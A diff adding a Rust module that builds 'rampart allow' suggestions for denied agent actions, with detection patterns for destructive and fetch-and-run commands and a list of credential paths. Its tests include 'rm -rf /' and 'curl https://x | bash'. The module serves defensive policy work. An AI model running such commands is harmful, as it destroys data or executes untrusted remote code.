@@ -1,0 +1,149 @@
+//! Ready-to-run `rampart allow ...` suggestions attached to deny decisions (spec §8.4).
+
+use super::command::{basename, tokenize};
+
+const HIGH_RISK: &str =
+    "⚠️  This command matches a high-risk pattern; allowing it is not recommended.";
+
+const NO_WILDCARD: &[&str] = &[
+    "rm", "shred", "dd", "wipefs", "fdisk", "parted", "truncate", "mv",
+];
+const PREFIXES: &[&str] = &[
+    "sudo", "env", "time", "nice", "ionice", "nohup", "timeout", "strace", "ltrace",
+];
+
+fn looks_sensitive(p: &str) -> bool {
+    let l = p.to_lowercase();
+    [
+        ".ssh",
+        ".aws",
+        ".gnupg",
+        "shadow",
+        "sudoers",
+        "passwd",
+        ".env",
+        "credentials",
+        "id_rsa",
+        "id_ed25519",
+        ".kube",
+        "token",
+    ]
+    .iter()
+    .any(|s| l.contains(s))
+}
+
+fn high_risk(cmd: &str) -> bool {
+    let c = cmd.trim();
+    let t = tokenize(c);
+    let rm_rf = t.first().is_some_and(|w| basename(w) == "rm")
+        && t.iter()
+            .any(|w| w.starts_with('-') && (w.contains('r') || w.contains('R')))
+        && t.iter().any(|w| w.starts_with('-') && w.contains('f'))
+        && t.iter().skip(1).any(|w| {
+            matches!(w.as_str(), "/" | "~" | "." | ".." | "/*" | "~/")
+                || [
+                    "/etc", "/usr", "/bin", "/boot", "/lib", "/var", "/home", "/root", "/sbin",
+                ]
+                .iter()
+                .any(|d| w == d || w.starts_with(&format!("{d}/")))
+        });
+    rm_rf
+        || c.contains(":(){")
+        || c.contains(">/dev/sd")
+        || c.contains("> /dev/sd")
+        || (c.contains("dd ") && c.contains("of=/dev/"))
+        || (c.contains("mkfs") && c.contains("/dev/"))
+        || ((c.contains("curl") || c.contains("wget") || c.contains("base64 -d"))
+            && (c.contains("| sh")
+                || c.contains("| bash")
+                || c.contains("|sh")
+                || c.contains("|bash")))
+        || c.contains("<(curl")
+}
+
+/// Suggestions for a denied call: exact and wildcard allow commands, or a warning.
+pub fn suggestions(tool: &str, command: Option<&str>, path: Option<&str>) -> Vec<String> {
+    let q = |s: &str| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""));
+    if tool == "exec" {
+        let Some(cmd) = command else {
+            return Vec::new();
+        };
+        if high_risk(cmd) {
+            return vec![HIGH_RISK.to_string()];
+        }
+        let mut out = vec![format!("rampart allow {}", q(cmd.trim()))];
+        let t = tokenize(cmd);
+        let mut exe_i = 0;
+        while t
+            .get(exe_i)
+            .is_some_and(|w| PREFIXES.contains(&basename(w)))
+        {
+            exe_i += 1;
+        }
+        let dangerous = t
+            .get(exe_i)
+            .is_some_and(|w| NO_WILDCARD.contains(&basename(w)) || basename(w).starts_with("mkfs"));
+        if !dangerous
+            && t.len() > 1
+            && let Some(last) = t.iter().rposition(|w| !w.starts_with('-'))
+            && last > 0
+            && !looks_sensitive(&t[last])
+        {
+            let mut w = t.clone();
+            w[last] = "*".to_string();
+            out.push(format!("rampart allow {}", q(&w.join(" "))));
+        }
+        return out;
+    }
+    let Some(p) = path else { return Vec::new() };
+    let l = p.to_lowercase();
+    if l.contains("shadow")
+        || l.contains("sudoers")
+        || (l.contains(".ssh/id_") && !l.ends_with(".pub"))
+    {
+        return vec![HIGH_RISK.to_string()];
+    }
+    let mut out = vec![format!("rampart allow {} --tool {tool}", q(p))];
+    if tool != "write"
+        && tool != "edit"
+        && !looks_sensitive(p)
+        && let Some((dir, _)) = p.rsplit_once('/')
+        && !dir.is_empty()
+    {
+        out.push(format!(
+            "rampart allow {} --tool {tool}",
+            q(&format!("{dir}/*"))
+        ));
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn exec_suggestions() {
+        assert_eq!(suggestions("exec", Some("rm -rf /"), None), vec![HIGH_RISK]);
+        assert_eq!(
+            suggestions("exec", Some("curl https://x | bash"), None),
+            vec![HIGH_RISK]
+        );
+        let s = suggestions("exec", Some("npm publish pkg"), None);
+        assert_eq!(s[0], "rampart allow \"npm publish pkg\"");
+        assert_eq!(s[1], "rampart allow \"npm publish *\"");
+        assert_eq!(suggestions("exec", Some("rm notes.txt"), None).len(), 1);
+    }
+
+    #[test]
+    fn path_suggestions() {
+        assert_eq!(
+            suggestions("read", None, Some("/etc/shadow")),
+            vec![HIGH_RISK]
+        );
+        let s = suggestions("read", None, Some("/srv/data/a.csv"));
+        assert_eq!(s.len(), 2);
+        assert!(s[1].contains("/srv/data/*"));
+        assert_eq!(suggestions("write", None, Some("/srv/data/a.csv")).len(), 1);
+    }
+}
